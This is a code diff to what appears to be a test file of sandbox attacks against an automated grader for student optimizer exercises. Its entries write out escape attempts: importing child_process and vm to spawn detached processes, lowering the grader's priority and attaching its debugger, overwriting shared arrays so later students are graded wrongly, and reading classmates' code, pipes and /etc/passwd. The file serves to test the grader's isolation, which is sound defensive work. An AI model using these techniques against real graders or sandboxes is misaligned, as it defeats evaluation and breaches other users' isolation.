@@ -13,6 +13,8 @@ export interface Attack {
   prefix?: string;
   /** Code run where the stub would throw "not implemented". */
   body?: string;
+  /** Code added at the end of the file. */
+  append?: string;
   /** The points the exercise may keep (default 0). */
   points?: number;
 }
@@ -57,7 +59,7 @@ export const ATTACKS: Attack[][] = [
   [
     { name: 'node:vm, node:v8, node:module, node:inspector by import() and process.getBuiltinModule', exercise: '20-adadelta', prefix: `${tries} for (const m of ['vm', 'v8', 'module', 'inspector', 'worker_threads', 'child_process', 'dgram', 'http2', 'cluster', 'repl', 'test']) { await attempt('import ' + m, () => import('node:' + m)); await attempt('getBuiltinModule ' + m, () => { if (!(process as any).getBuiltinModule('node:' + m)) throw new Error('none'); }); } await attempt('vm escape', async () => { const vm = (process as any).getBuiltinModule('vm'); return vm.runInThisContext('import("node:child_process")', { importModuleDynamically: vm.constants?.USE_MAIN_CONTEXT_DEFAULT_LOADER }).then((cp: any) => cp.spawn('sleep', ['300'], { detached: true, stdio: 'ignore' }).unref()); });`, body: report },
     { name: 'lowers its own and the grader\'s priority, starts the grader\'s debugger', exercise: '19-rmsprop', prefix: `import os from 'node:os'; ${tries} await attempt('own priority', () => os.setPriority(19)); await attempt('grader priority', () => os.setPriority(process.ppid, 19)); await attempt('grader priority (getBuiltinModule)', () => (process as any).getBuiltinModule('os').setPriority(process.ppid, 19)); await attempt('the grader\\'s debugger', () => (process as any)._debugProcess(process.ppid));`, body: report },
-    { name: 'overwrites the spec\'s gradients it is handed (shared by the students graded after it)', exercise: '22-nadam', body: 'for (const a of arguments) if (Array.isArray(a)) a.fill(0.5);' },
+    { name: 'overwrites the options and arrays the spec hands it (shared by the students graded after it)', exercise: '22-nadam', body: 'for (const a of arguments) if (Array.isArray(a)) a.fill(0.5); return [...arguments[0]];', append: 'const Stub = NAdam; (NAdam as any) = class extends Stub { constructor(o: any = {}) { super(o); for (const k of Object.keys(o)) o[k] = 0.987; } };' },
     { name: 'reads classmates\' compiled code and other children\'s pipes', exercise: '18-adagrad', prefix: `import fs from 'node:fs'; ${tries} const up = (n: number) => new URL('../'.repeat(n), import.meta.url).pathname; for (const n of [2, 3, 4]) { await attempt('list ' + up(n), () => { const names = fs.readdirSync(up(n)); if (!names.length) throw new Error('empty'); for (const name of names) for (const sub of ['', 'pipes', 'code']) { try { for (const f of fs.readdirSync(up(n) + name + '/' + sub)) { try { fs.readFileSync(up(n) + name + '/' + sub + '/' + f); tries.push('read ' + f + ' worked'); } catch {} } } catch {} } }); } await attempt('a classmate by import()', () => import(up(2) + 's4-honest/18-adagrad/adagrad.mjs')); await attempt('whether /etc/passwd exists', () => fs.realpathSync('/etc/passwd')); await attempt('whether /etc/passwd exists (async)', () => new Promise((ok, no) => fs.realpath('/etc/passwd', (e, p) => (e ? no(e) : ok(p)))));`, body: report },
   ],
 ];
